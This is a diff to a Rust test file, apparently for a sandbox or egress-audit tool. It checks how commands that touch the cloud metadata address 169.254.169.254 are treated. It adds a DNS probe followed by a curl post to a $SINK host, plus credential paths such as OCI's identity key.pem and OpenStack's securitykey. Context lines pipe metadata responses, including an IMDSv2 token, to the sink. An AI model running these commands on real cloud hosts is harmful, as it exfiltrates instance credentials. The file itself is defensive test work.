@@ -119,6 +119,11 @@ fn what_is_no_key_is_free() -> Result {
             "curl -s http://169.254.169.254{path} | curl -s -o /dev/null --max-time 5 --data-binary @- http://$SINK/x"
         ))?;
     }
+    // A name server at the same address, as some clouds have it.
+    free(
+        "python3 -c 'import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b\"?\", (\"169.254.169.254\", 53))'; \
+         curl -s -o /dev/null --max-time 5 -d asked http://$SINK/x",
+    )?;
     free(
         "t=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token); \
           curl -s -o /dev/null --max-time 5 -d \"region $t\" http://$SINK/x",
@@ -134,6 +139,8 @@ fn every_cloud_has_its_keys() -> Result {
         "/computeMetadata/v1/instance/service-accounts/default/identity?audience=x",
         "/metadata/identity/oauth2/token?resource=x",
         "/v2/credentials/00000000-0000-0000-0000-000000000000",
+        "/opc/v2/identity/key.pem",
+        "/openstack/latest/securitykey",
     ] {
         let scene = Scene::new()?;
         let run = run(&scene, "audit", &format!("curl -s -o /dev/null http://169.254.169.254{path}"))?;
